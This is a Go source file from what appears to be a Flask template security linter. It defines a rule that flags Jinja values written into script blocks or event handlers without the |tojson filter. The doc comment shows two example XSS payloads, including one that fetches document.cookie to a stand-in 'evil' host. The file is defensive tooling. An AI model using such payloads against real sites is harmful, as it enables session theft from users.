package templates

import (
	"github.com/flaskguard/flaskguard/internal/finding"
	"github.com/flaskguard/flaskguard/internal/jinja"
	"github.com/flaskguard/flaskguard/internal/rules/rule"
)

// ScriptContextWithoutTojson flags template outputs written into
// JavaScript without |tojson.
//
// # What it does
//
// Reports {{ outputs }} of HTML templates written into JavaScript without
// the |tojson filter: in the body of a <script> element that runs
// (no type, a JavaScript type or type="module"), or in a quoted event
// handler attribute (onclick="...", onload="..."). It also reports
// {{ x|tojson }} inside a double-quoted event handler: tojson output
// contains double quotes, which end the attribute.
//
// Not reported: {{ x|tojson }} in a script body or a single-quoted
// handler; literals; values of Flask's config and translations of
// literals ({{ config.MAX_SIZE }}, {{ _('Saved') }}), which the operator
// sets; numbers (|int, |length); URL-quoted text
// (|urlencode); url_for(), csrf_token() and csp_nonce(), whose results hold
// no quote; script elements that are data blocks
// (<script type="application/json">, client-side template types); and
// <script src="{{ url_for(...) }}">, an attribute, not script content.
// Outputs that also skip HTML escaping (|safe) are left to FG0630, and
// unquoted handlers to FG0631, so that one output draws one finding.
//
// An output that request data provably reaches, passed by a view to
// render_template, is reported once, by FG0604 (cross-site-scripting) at
// the view, with the flow from the request to the output; not again here.
//
// # Why is this bad
//
// HTML escaping is the wrong escaping for JavaScript. In a script body the
// browser does not decode entities, so an escaped value is garbled, and a
// value written outside a string literal (var n = {{ n }};) needs no quote
// at all to run code: "1;fetch('//evil/'+document.cookie)". In an event
// handler the browser decodes the character references autoescaping
// writes back into quotes before running the code, so
// onclick="greet('{{ name }}')" is broken out of by a name such as
// "');alert(1)//" (CWE-79). |tojson writes a
// JavaScript literal with <, >, & and ' encoded so that it cannot end
// the string or the script element.
//
// # Example
//
//	<script>
//	  const user = "{{ user.name }}";
//	  const limit = {{ limit }};
//	</script>
//	<button onclick="remove('{{ item.id }}')">Remove</button>
//
// # Use instead
//
// Pass values with |tojson (no quotes around it: it writes the quotes),
// and put single quotes around event handlers that use it:
//
//	<script>
//	  const user = {{ user.name|tojson }};
//	  const limit = {{ limit|tojson }};
//	</script>
//	<button onclick='remove({{ item.id|tojson }})'>Remove</button>
//
// # References
//
//   - https://flask.palletsprojects.com/en/stable/templating/#standard-filters
//   - https://jinja.palletsprojects.com/en/stable/templates/#jinja-filters.tojson
//   - https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html
//   - https://cwe.mitre.org/data/definitions/79.html
var ScriptContextWithoutTojson = rule.Rule{
	ID:            "FG0632",
	Name:          "template-script-context-without-tojson",
	Practice:      6,
	CWE:           79,
	Severity:      finding.Medium,
	Confidence:    finding.MediumConfidence,
	Summary:       "Template output in a <script> block or event handler without |tojson, where HTML escaping does not protect",
	Fix:           "Write values into JavaScript with |tojson (it adds the quotes): const name = {{ name|tojson }}; use single quotes around event handlers that use it.",
	CheckTemplate: checkScriptContext,
}

func checkScriptContext(c *rule.Ctx, t *jinja.Template) {
	if !isHTMLTemplate(t) {
		return
	}
	cv := &coverage{c: c, t: t}
	for i := range t.Outputs {
		o := &t.Outputs[i]
		if o.Context != jinja.Script && o.Context != jinja.EventAttr {
			continue
		}
		if _, unescaped := UnescapedOutput(t, o); unescaped || rendersMarkup(t, o) {
			continue
		}
		where := "a <script> block"
		if o.Context == jinja.EventAttr {
			where = "the " + o.AttrName + " event handler"
		}
		var msg string
		switch {
		case hasFilter(o, "tojson"):
			if o.Context == jinja.EventAttr && o.AttrQuote == '"' {
				msg = show(o) + " is in the double-quoted " + o.AttrName +
					" attribute: tojson output contains double quotes, which end the attribute; use single quotes around it"
			}
		case cannotBreakOut(o), fromDeployment(o):
		default:
			msg = show(o) + " is written into " + where + " without |tojson: HTML escaping does not stop JavaScript injection there"
		}
		if msg != "" && !cv.has(o) {
			c.ReportAt(o.Loc, c.Rule().Severity, msg)
		}
	}
}
